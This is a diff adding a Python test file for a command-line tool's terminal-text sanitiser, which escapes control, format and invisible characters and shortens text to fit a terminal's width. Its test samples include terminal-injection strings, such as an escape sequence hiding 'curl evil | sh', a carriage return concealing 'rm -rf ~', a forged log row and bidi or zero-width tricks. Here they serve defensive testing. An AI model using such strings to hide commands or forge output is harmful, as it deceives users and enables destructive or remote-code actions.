@@ -1,0 +1,97 @@
+"""Text for a terminal."""
+
+from __future__ import annotations
+
+import io
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from web4_governance.cli import text
+
+HOSTILE = {
+    "clears the screen": "\x1b[2J\x1b[H",
+    "sets the title": "\x1b]0;owned\x07",
+    "one-byte escape": "\x9b31m",
+    "hides what follows": "ok\x1b[8m; curl evil | sh",
+    "writes over the line": "rm -rf ~\rls        ",
+    "forges a row": "ls\n12:00:00 main Bash true allow",
+    "reads backwards": "\u202etxt.exe",
+    "hides in zero width": "rm\u200b -rf",
+    "writes in tags": "ok\U000e0041\U000e0042",
+    "looks like a space": "a\u3164b",
+    "ends a line": "a\u2028b\u0085c",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_text_is_shown_and_not_obeyed(name: str) -> None:
+    """No control, format or blank letter reaches the terminal."""
+    shown = text.safe(HOSTILE[name])
+    assert shown != HOSTILE[name]
+    assert "\\" in shown
+    assert all(char.isprintable() for char in shown)
+
+
+@given(st.text())
+def test_safe_text_has_no_character_that_a_terminal_obeys(content: str) -> None:
+    """For every text: what comes out is printable, and safe text stays as it is."""
+    shown = text.safe(content)
+    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in shown)
+    assert text.safe(shown) == shown
+
+
+def test_ordinary_text_of_any_script_stays_as_it_is() -> None:
+    """Escaping is for what is dangerous, not for what is foreign."""
+    for content in ("grün", "日本語", "naïve cafe\u0301", "git commit -m 'ok'", "שלום"):
+        assert text.safe(content) == content
+
+
+def test_marks_do_not_climb_over_other_lines() -> None:
+    """A letter keeps a few marks; the rest is written out."""
+    assert text.safe("e" + "\u0301" * 9).count("\\u0301") == 6
+
+
+@given(st.text(), st.integers(min_value=0, max_value=40))
+def test_a_shortened_text_fits(content: str, columns: int) -> None:
+    """Never wider than asked, wide letters counted as two."""
+    assert text.width(text.shorten(text.safe(content), columns)) <= columns
+    assert text.width(text.shorten_path(text.safe(content), columns)) <= columns
+
+
+def test_shortening_says_where_something_is_missing() -> None:
+    """A command keeps its beginning, a path its end."""
+    assert text.shorten("rm -rf /very/long", 8) == "rm -rf …"
+    assert text.shorten_path("/home/dev/project/a.py", 8) == "…ct/a.py"
+    assert text.shorten("short", 5) == "short"
+    assert text.width(text.shorten("日本語日本語", 5)) == 5
+    assert text.pad("日本", 6) == "日本  "
+
+
+class Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+def test_colour_is_for_terminals_only(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A pipe gets none, a terminal does, and `NO_COLOR` or a dumb terminal take it away."""
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    monkeypatch.setenv("TERM", "xterm")
+    assert text.Paint(io.StringIO())("x", "red") == "x"
+    assert text.Paint(Terminal())("x", "red") == "\x1b[31mx\x1b[0m"
+    assert text.Paint(Terminal())("x", "") == "x"
+    monkeypatch.setenv("NO_COLOR", "1")
+    assert text.Paint(Terminal())("x", "red") == "x"
+    monkeypatch.delenv("NO_COLOR")
+    monkeypatch.setenv("TERM", "dumb")
+    assert text.Paint(Terminal())("x", "red") == "x"
+
+
+def test_the_width_is_the_terminals_and_never_too_small(monkeypatch: pytest.MonkeyPatch) -> None:
+    """`COLUMNS` speaks, but a listing needs some room."""
+    monkeypatch.setenv("COLUMNS", "132")
+    assert text.terminal_width() == 132
+    monkeypatch.setenv("COLUMNS", "10")
+    assert text.terminal_width() == text.NARROW
